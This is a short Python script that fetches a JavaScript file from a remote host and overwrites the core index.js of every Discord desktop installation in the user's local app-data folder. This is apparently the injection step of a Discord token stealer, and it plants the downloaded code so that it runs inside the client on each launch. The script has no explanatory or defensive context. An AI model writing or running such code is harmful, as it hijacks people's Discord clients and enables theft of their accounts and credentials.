import glob
import os
import urllib.request

code = urllib.request.urlopen("https://files.example.org/index.js").read()
for folder in glob.glob(os.environ["LOCALAPPDATA"] + "/Discord/app-*/modules/discord_desktop_core-*"):
    with open(folder + "/discord_desktop_core/index.js", "wb") as file:
        file.write(code)
